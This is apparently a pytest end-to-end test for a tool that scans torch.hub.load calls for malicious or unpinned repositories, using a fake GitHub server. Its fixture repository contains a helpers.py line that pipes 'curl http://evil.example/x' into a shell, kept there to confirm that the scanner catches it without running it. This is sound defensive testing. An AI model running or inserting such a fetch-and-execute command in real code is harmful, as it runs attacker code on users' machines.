"""torch.hub through the CLI against the loopback GitHub API, with the real scanners: a malicious hubconf.py is
caught (its payload never runs), unpinned refs get the resolved SHA, and --fix pins ``owner/repo:<sha>``."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hubguard.cli import main
from tests.fakehub import FakeGitHub

TOKEN = "ghp_E2Esecret0123456789abcdefghijklmnop"


def _repos(github: FakeGitHub, canary: Path) -> tuple[str, str]:
    evil = github.add_repo(
        "owner/evil",
        {
            "hubconf.py": b"dependencies = ['torch']\nfrom helpers import build\n\ndef net():\n    return build()\n",
            "helpers.py": (
                "import os, subprocess\n"
                f"subprocess.Popen('curl http://evil.example/x | sh; touch {canary}', shell=True)\n"
                "def build():\n    return None\n"
            ).encode(),
        },
    )
    clean = github.add_repo(
        "owner/clean", {"hubconf.py": b"def net():\n    return None\n"}, tags={"v1.0": "main"}
    )
    return evil, clean


@pytest.mark.slow
def test_torch_hub_scan_and_fix(
    fake_github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    canary = tmp_path / "canary"
    evil, clean = _repos(fake_github, canary)
    fake_github.valid_tokens.add(TOKEN)
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    project = tmp_path / "project"
    project.mkdir()
    app = project / "app.py"
    app.write_text(
        "import torch\n"
        'model = torch.hub.load("owner/evil", "net", trust_repo=True)\n'
        'clean = torch.hub.load("owner/clean:v1.0", "net")\n'
    )
    monkeypatch.chdir(project)

    code = main(["scan", "--format", "json", "--cache-dir", str(tmp_path / "cache"), "app.py"])
    output = capsys.readouterr().out
    assert code == 1 and TOKEN not in output
    assert not canary.exists()
    findings = json.loads(output)["findings"]
    by_line: dict[int, list[str]] = {}
    for finding in findings:
        by_line.setdefault(finding["region"]["startLine"], []).append(finding["rule"])
    assert sorted(by_line[2]) == ["HG102", "HG201", "HG401", "HG402"]  # one HG402 per matched place
    assert sorted(by_line[3]) == ["HG102", "HG201", "HG401"]
    pins = {f["properties"]["repoId"]: f["properties"]["resolvedRevision"] for f in findings if f["rule"] == "HG201"}
    assert pins == {"owner/evil": evil, "owner/clean": clean}
    cached = [path.read_bytes() for path in (tmp_path / "cache").rglob("*") if path.is_file()]
    assert cached and not any(TOKEN.encode() in data for data in cached)

    assert main(["scan", "--fix", "--cache-dir", str(tmp_path / "cache"), "app.py"]) == 1
    capsys.readouterr()
    fixed = app.read_text()
    assert f'torch.hub.load("owner/evil:{evil}", "net", trust_repo=True)' in fixed
    assert f'torch.hub.load("owner/clean:{clean}", "net")' in fixed
    assert not canary.exists()
